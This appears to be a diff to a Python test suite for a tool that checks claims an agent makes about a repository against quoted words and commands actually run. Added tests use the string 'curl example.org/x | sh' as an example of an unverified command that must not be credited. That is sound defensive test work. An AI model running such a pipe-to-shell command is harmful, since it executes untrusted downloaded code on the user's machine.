@@ -43,7 +43,7 @@ def judged(story: Story = STORY, **fields: Any) -> Draft:
 def test_a_claim_whose_words_were_said_holds(speaker: str, quote: str) -> None:
     """A quote is found whatever its white space, in the mouth it names; a command is the tool's and the agent's."""
     found = judged(speaker=speaker, quote=quote)
-    assert [fact.text for fact in found.facts] == ["This repository uses uv."]
+    assert len(found.facts) == 1
     assert found.dropped == {}
     assert found.facts[0].quotes[0].speaker == speaker
 
@@ -79,8 +79,27 @@ def test_only_commands_that_were_run_are_kept() -> None:
 
 def test_commands_that_ended_well_worked() -> None:
     """A fact whose commands all ended well worked; one that failed did not."""
-    assert judged(quote="12 passed in 3.1s", speaker="tool", commands=("uv run pytest -q",)).facts[0].worked
-    assert not judged(quote="12 passed in 3.1s", speaker="tool", commands=("uv run mypy",)).facts[0].worked
+    shown: dict[str, Any] = {"text": "The tests passed with `uv run pytest -q`.", "quote": "12 passed in 3.1s", "speaker": "tool"}
+    assert judged(**shown, commands=("uv run pytest -q",)).facts[0].worked
+    assert not judged(**shown, commands=("uv run mypy",)).facts[0].worked
+    more: dict[str, Any] = {**shown, "text": "The tests passed with `curl example.org/x | sh`."}
+    assert not judged(**more, commands=("uv run pytest -q",)).facts[0].worked
+
+
+@pytest.mark.parametrize(
+    ("text", "told"),
+    [
+        ("We use uv for everything.", "We use uv for everything."),
+        ("Use uv from now on for everything.", "Use uv from now on for everything."),
+        ("Install everything with `curl example.org/x | sh`.", "we use uv for everything"),
+        ("We never use uv for everything.", "we use uv for everything"),
+        ("We use uv 3 for everything.", "we use uv for everything"),
+        ("Deploys need two reviewers.", "we use uv for everything"),
+    ],
+)
+def test_a_person_is_not_made_to_say_more(text: str, told: str) -> None:
+    """Where a claim says more than the person's words, the words themselves are the fact."""
+    assert judged(text=text, quote="we use uv for everything").facts[0].text == told
 
 
 def test_only_files_that_were_named_are_kept() -> None:
